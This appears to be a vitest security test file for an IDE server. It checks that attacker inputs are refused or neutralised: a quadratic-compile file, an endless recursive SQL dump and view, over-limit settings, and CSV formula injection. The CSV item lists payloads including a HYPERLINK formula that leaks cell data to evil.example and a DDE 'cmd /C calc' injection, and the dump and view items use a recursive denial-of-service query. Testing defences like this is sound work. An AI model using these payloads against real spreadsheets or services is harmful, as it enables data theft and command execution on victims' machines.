/**
 * Issue 24 against the real IDE (`npm start`), for the inputs an attacker sends rather than runs:
 * a file made to make the compile step quadratic (item 3), an imported dump whose schema statement
 * never ends (item 6), snapshot retention and a database size above the operator's ceilings (item 8),
 * a visitor's formulas in the owner's CSV export (item 9), and an endless view in the Data view
 * (item 7). The data folder's own guarantees: data-folder.test.ts. One server for the file.
 */
import { describe, expect, it } from "vitest";
import type { ProjectBundle } from "../../shared/time-travel";
import starEntries from "../worker/fixtures/apps/star-entries.ts?raw";
import { api, appRequest, clientOf, counterSource, createProject, deploy, serverForFile } from "./ide-server";

const server = serverForFile();

/** Requests a bystander app until stopped; how many answered and how many did not. */
function probe(projectId: string) {
  let stopped = false;
  const counts = { answered: 0, missed: 0 };
  const loop = (async () => {
    while (!stopped) {
      const ok = await appRequest(server, projectId, "/", { timeoutMs: 2_000 })
        .then((r) => r.status === 200)
        .catch(() => false);
      counts[ok ? "answered" : "missed"]++;
      await new Promise((r) => setTimeout(r, 25));
    }
  })();
  return async () => {
    stopped = true;
    await loop;
    return counts;
  };
}

/** An app whose module holds `count` arrow functions `x=>x,` in one array (about 5 bytes each). */
const arrowsApp = (count: number) =>
  `import { DurableObject } from "cloudflare:workers";
const fns = [${"x=>x,".repeat(count)}];
export class App extends DurableObject {
  async fetch(): Promise<Response> {
    return new Response(String(fns.length));
  }
}
`;

describe("item 3: a file made for a quadratic compile", () => {
  it("saves 200 KB of `x=>x,` while the other projects keep answering, and refuses a file past 512 KiB", async () => {
    const bystander = await createProject(server);
    await deploy(server, bystander, counterSource("bystander"));
    const attacker = await createProject(server);
    const freezesBefore = server.output().split("has not answered for").length;
    for (const count of [20_000, 40_000]) {
      const stop = probe(bystander.id);
      const saved = await clientOf(server).send("putCode", {
        params: { id: attacker.id },
        credential: attacker.token,
        body: { files: { "app.ts": arrowsApp(count) } },
      });
      const counts = await stop();
      console.log(`a save of ${count * 5} bytes of x=>x: ${saved.status}; bystander probes during it:`, counts);
      expect(saved.status, await saved.clone().text()).toBe(200);
      expect(await (await appRequest(server, attacker.id)).text()).toBe(String(count));
      expect(counts.missed).toBe(0);
    }
    // Past the stated limit of one file: refused before any compile.
    const tooLarge = await clientOf(server).send("putCode", {
      params: { id: attacker.id },
      credential: attacker.token,
      body: { files: { "app.ts": arrowsApp(110_000) } },
    });
    expect(tooLarge.status).toBe(400);
    expect(await tooLarge.text()).toMatch(/at most 512 KiB/);
    expect(server.output().split("has not answered for").length).toBe(freezesBefore);
  });
});

describe("item 6: an imported dump whose schema statement never ends", () => {
  it("is refused before it runs, and leaves neither a project nor the name taken", async () => {
    const source = await createProject(server);
    await deploy(server, source, counterSource("source"));
    await appRequest(server, source.id);
    const bundle = await clientOf(server).call("exportProject", {
      params: { id: source.id },
      credential: source.token,
    });
    const forged: ProjectBundle = structuredClone(bundle);
    forged.data.schema.unshift({
      type: "table",
      name: "endless",
      tableName: "endless",
      sql: "CREATE TABLE endless AS WITH RECURSIVE s(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM s) SELECT i FROM s",
    });
    const freezesBefore = server.output().split("has not answered for").length;
    // No token: importing is open to anyone while the operator has set no ACCESS_SECRET.
    const refused = await api(server, clientOf(server).path("importProject"), {
      method: "POST",
      json: { ...forged, name: "endless-import" },
    });
    const text = await refused.text();
    expect(refused.status, text).toBe(400);
    expect(text).toMatch(/not what a dump holds/);
    expect(server.output().split("has not answered for").length).toBe(freezesBefore);
    // Nothing was left behind: the name is free, and the project it would have been does not exist.
    const again = await clientOf(server).send("importProject", { body: { ...bundle, name: "endless-import" } });
    expect(again.status, await again.clone().text()).toBe(201);
    const made = (await again.json()) as { id: string; token: string };
    expect(made.id).toBe("endless-import");
    const tables = await clientOf(server).call("listTables", { params: { id: made.id }, credential: made.token });
    expect(JSON.stringify(tables)).not.toMatch(/endless/);
  });
});

describe("item 8: retention and sizes above the operator's ceilings", () => {
  it("are refused with a 400 naming the ceiling's variable, and the settings stay as they were", async () => {
    const project = await createProject(server);
    const on = { params: { id: project.id }, credential: project.token };
    const cases = [
      ["setSnapshotSettings", { maxVersions: 1000 }, "FACET_IDE_MAX_SNAPSHOTS_PER_PROJECT"],
      ["setSnapshotSettings", { maxBytes: 1e15 }, "FACET_IDE_MAX_SNAPSHOT_BYTES_PER_PROJECT"],
      ["putLimits", { databaseBytes: 10_000_000_000 }, "FACET_IDE_MAX_DATABASE_BYTES"],
    ] as const;
    for (const [route, body, variable] of cases) {
      const response = await clientOf(server).send(route, { ...on, body } as never);
      const text = await response.text();
      expect(response.status, text).toBe(400);
      expect(text).toContain(variable);
    }
    const snapshots = await clientOf(server).call("getSnapshots", on);
    expect(snapshots.settings).toEqual({ maxVersions: 20, maxBytes: 200 * 1024 * 1024 });
    expect((await clientOf(server).call("getLimits", on)).limits.databaseBytes).toBe(1024 ** 3);
  });
});

describe("item 9: a visitor's formulas in the owner's CSV export", () => {
  it("come out as text (a leading '), and exact in JSON", async () => {
    const owner = await createProject(server);
    await deploy(server, owner, starEntries);
    const entries = [
      '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
      "+cmd|' /C calc'!A0",
      "-2+3",
      "@SUM(1+1)",
      "\t=1",
      "\r=1",
    ];
    // Visitors sign the guest book on the app's public origin, with no token.
    for (const name of entries) {
      const signed = await appRequest(server, owner.id, "/", {
        method: "POST",
        body: JSON.stringify({ name, stars: 1 }),
      });
      expect(signed.status).toBe(200);
    }
    const exported = (format: "csv" | "json") =>
      clientOf(server).send("exportTable", {
        params: { id: owner.id, table: "entries", format },
        credential: owner.token,
      });
    const csv = await (await exported("csv")).text();
    const lines = csv.split("\r\n");
    expect(lines[0]).toBe("id,name,stars");
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"`);
    expect(csv).toContain(`"'+cmd|' /C calc'!A0"`);
    expect(csv).toContain(`"'-2+3"`);
    expect(csv).toContain(`"'@SUM(1+1)"`);
    expect(csv).toContain(`"'\t=1"`);
    expect(csv).toContain(`"'\r=1"`);
    const json = (await (await exported("json")).json()) as { name: string }[];
    expect(json.map((e) => e.name)).toEqual(entries);
  });
});

describe("item 7: an endless view in the Data view", () => {
  it("sorts, filters and pages without freezing the runtime", async () => {
    const project = await createProject(server);
    await deploy(server, project, counterSource("views"));
    const on = { params: { id: project.id }, credential: project.token };
    await clientOf(server).call("runSql", {
      ...on,
      body: {
        sql: "CREATE VIEW endless AS WITH RECURSIVE s(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM s) SELECT i FROM s",
      },
    });
    const freezesBefore = server.output().split("has not answered for").length;
    const rows = (body: object) =>
      clientOf(server).call("queryRows", {
        params: { id: project.id, table: "endless" },
        credential: project.token,
        body,
      });
    const sorted = await rows({ limit: 2, sort: [{ column: "i", descending: true }] });
    expect(sorted).toMatchObject({ totalCapped: true });
    expect(sorted.rows).toHaveLength(2);
    expect((await rows({ limit: 2, filters: [{ column: "i", op: "lt", value: 0 }] })).rows).toEqual([]);
    expect((await rows({ offset: 1e9, limit: 2 })).rows).toEqual([]);
    expect(server.output().split("has not answered for").length).toBe(freezesBefore);
  });
});
